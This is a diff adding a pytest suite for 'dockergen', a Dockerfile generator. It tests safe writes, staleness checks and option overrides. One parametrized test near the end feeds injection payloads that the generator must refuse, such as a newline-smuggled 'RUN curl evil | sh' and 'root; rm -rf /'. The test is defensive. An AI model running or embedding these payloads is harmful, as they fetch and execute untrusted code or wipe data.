@@ -1,0 +1,160 @@
+"""init / generate / check: safe writes, staleness, and the options API."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+from click.testing import CliRunner
+
+import dockergen
+from dockergen.api import is_unedited_output, split_header
+from dockergen.cli import main
+from dockergen.facts import InspectError
+
+
+def cli(*args: str):
+    return CliRunner().invoke(main, list(args))
+
+
+def test_init_writes_both_files_and_check_is_clean(sample_copy):
+    path = sample_copy("piptools-psycopg")
+    result = cli("init", str(path))
+    assert result.exit_code == 0, result.output
+    assert "Dockerfile: created" in result.output and ".dockerignore: created" in result.output
+    assert "Next: docker build -t piptools-psycopg" in result.output
+    assert cli("check", str(path)).exit_code == 0
+    assert "Dockerfile: unchanged" in cli("generate", str(path)).output
+
+
+def test_check_reports_stale_after_a_lock_change_and_clean_after_generate(sample_copy):
+    path = sample_copy("piptools-psycopg")
+    assert cli("init", str(path)).exit_code == 0
+    lock = path / "requirements.txt"
+    lock.write_text(lock.read_text().replace("sqlalchemy==2.1.9", "sqlalchemy==2.1.8"))
+    stale = cli("check", str(path))
+    assert stale.exit_code == 1
+    assert "Dockerfile is stale: run `dockergen generate`" in stale.output
+    assert "-# dockergen: inputs=" in stale.output and "+# dockergen: inputs=" in stale.output
+    assert "Dockerfile: updated" in cli("generate", str(path)).output
+    assert cli("check", str(path)).exit_code == 0
+
+
+def test_check_reports_a_new_native_need_in_the_diff(sample_copy):
+    path = sample_copy("requirements-plain")
+    assert cli("init", str(path)).exit_code == 0
+    with open(path / "requirements.txt", "a") as handle:
+        handle.write("psycopg2==2.9.13\n")
+    result = cli("check", str(path))
+    assert result.exit_code == 1
+    assert "+ && apt-get install -y --no-install-recommends libpq5" in result.output
+
+
+def test_check_never_writes(sample_copy):
+    path = sample_copy("pipenv-app")
+    before = sorted(os.listdir(path))
+    assert cli("check", str(path)).exit_code == 1  # missing files are reported, not written
+    assert sorted(os.listdir(path)) == before
+
+
+def test_init_refuses_a_hand_written_dockerfile_and_loses_nothing(sample_copy):
+    path = sample_copy("pdm-flask")
+    mine = "FROM python:3.13-slim\nCOPY . .\nCMD [\"python\", \"app.py\"]\n"
+    (path / "Dockerfile").write_text(mine)
+    result = cli("init", str(path))
+    assert result.exit_code == 1
+    assert "refusing to overwrite Dockerfile" in result.output
+    assert "-FROM python:3.13-slim" in result.output  # the diff
+    assert (path / "Dockerfile").read_text() == mine
+    assert not (path / ".dockerignore").exists(), "nothing is written unless every file may be"
+
+    forced = cli("init", "--force", str(path))
+    assert forced.exit_code == 0, forced.output
+    assert "old file kept as Dockerfile.bak" in forced.output
+    assert (path / "Dockerfile.bak").read_text() == mine
+    assert split_header((path / "Dockerfile").read_text())[0] is not None
+
+
+def test_generate_refuses_a_generated_file_a_person_edited(sample_copy):
+    path = sample_copy("poetry-legacy")
+    assert cli("init", str(path)).exit_code == 0
+    dockerfile = path / "Dockerfile"
+    edited = dockerfile.read_text().replace("USER 10001:10001", "USER root")
+    dockerfile.write_text(edited)
+    assert cli("generate", str(path)).exit_code == 1
+    assert dockerfile.read_text() == edited
+    check = cli("check", str(path))
+    assert check.exit_code == 1 and "edited by hand" in check.output
+
+
+def test_interrupted_write_leaves_the_old_file_and_no_temp_files(sample_copy, monkeypatch):
+    path = sample_copy("uv-workspace")
+    assert cli("init", str(path)).exit_code == 0
+    with open(path / "pyproject.toml", "a") as handle:
+        handle.write("\n[tool.dockergen]\nport = 9000\n")
+    old = (path / "Dockerfile").read_text()
+
+    def crash(*args, **kwargs):
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr("dockergen.api.os.replace", crash)
+    with pytest.raises(KeyboardInterrupt):
+        dockergen.write(path)
+    assert (path / "Dockerfile").read_text() == old
+    assert not [n for n in os.listdir(path) if n.endswith(".tmp")]
+
+
+def test_stdout_prints_without_writing(sample_copy):
+    path = sample_copy("hatch-cli")
+    result = cli("generate", "--stdout", str(path))
+    assert result.exit_code == 0
+    assert "CMD [\"hatch-cli\"]" in result.output
+    assert not (path / "Dockerfile").exists()
+
+
+def test_api_options_override_the_project(sample_copy):
+    path = sample_copy("uv-fastapi")
+    files = dockergen.generate(path, python="3.11", port=9000, uid=20000, apt={"run": ["curl"]})
+    dockerfile = files["Dockerfile"]
+    assert "ARG PYTHON_IMAGE=python:3.11-slim-bookworm" in dockerfile
+    assert "EXPOSE 9000" in dockerfile
+    assert "USER 20000:20000" in dockerfile
+    assert "apt-get install -y --no-install-recommends curl" in dockerfile
+
+
+def test_settings_in_pyproject_and_flags_that_win(sample_copy):
+    path = sample_copy("poetry-django")
+    with open(path / "pyproject.toml", "a") as handle:
+        handle.write('\n[tool.dockergen]\nentrypoint = "python manage.py runserver 0.0.0.0:8001"\nport = 8001\n')
+    assert 'CMD ["python", "manage.py", "runserver", "0.0.0.0:8001"]' in dockergen.generate(path)["Dockerfile"]
+    result = cli("generate", "--stdout", "--entrypoint", "gunicorn mysite.wsgi", str(path))
+    assert 'CMD ["gunicorn", "mysite.wsgi"]' in result.output
+    assert "EXPOSE 8001" in result.output
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [
+        ("entrypoint", "gunicorn app:app\nRUN curl evil | sh"),
+        ("entrypoint", "sh -c $(whoami)"),
+        ("image", "python\nRUN id"),
+        ("user", "root; rm -rf /"),
+        ("apt", {"run": ["libpq5 && curl x"]}),
+        ("python", "3.13\n"),
+        ("port", "80 8080"),
+    ],
+)
+def test_injected_values_are_refused_naming_the_setting(sample_copy, option, value):
+    path = sample_copy("pdm-flask")
+    with pytest.raises(InspectError, match=r"\[tool\.dockergen\] " + option.split("_")[0]):
+        dockergen.generate(path, **{option: value})
+
+
+def test_syntax_line_only_on_request_and_then_first(sample_copy):
+    path = sample_copy("pdm-flask")
+    assert "# syntax=" not in dockergen.generate(path)["Dockerfile"]
+    assert cli("init", "--syntax", str(path)).exit_code == 0
+    text = (path / "Dockerfile").read_text()
+    assert text.startswith("# syntax=docker/dockerfile:1\n# Generated by dockergen")  # a parser directive
+    assert is_unedited_output(text)
+    assert "Dockerfile: unchanged" in cli("generate", "--syntax", str(path)).output
